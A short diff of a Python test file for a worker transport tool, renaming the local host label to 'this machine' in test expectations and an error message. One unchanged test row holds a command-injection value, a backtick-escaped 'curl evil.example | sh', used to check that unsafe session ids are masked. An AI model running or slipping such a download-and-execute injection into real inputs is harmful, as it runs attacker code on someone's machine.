@@ -171,7 +171,7 @@ async def test_a_worker_that_ends_before_its_hello() -> None:
 def test_a_session_that_waits_for_an_answer_says_where_it_can_be_given() -> None:
     for host, named, session, shown in (
         ("devbox", "devbox", "5e55", "5e55"),
-        ("local", "--local", "5e55", "5e55"),
+        ("this machine", "--local", "5e55", "5e55"),
         ("devbox", "devbox", "5e55`; curl evil.example | sh #", "SESSION"),
         ("devbox", "devbox", "5" * 100, "SESSION"),
         ("devbox", "devbox", None, "SESSION"),
@@ -251,7 +251,7 @@ async def test_a_worker_that_does_not_read() -> None:
     transport = LocalTransport()
     try:
         pipe = await transport.execute("exec <&-; exec sleep 60")
-        with pytest.raises(ConnectionLost, match="connection to local was lost"):
+        with pytest.raises(ConnectionLost, match="connection to this machine was lost"):
             while True:
                 await pipe.write(b"x" * 65536)
     finally:
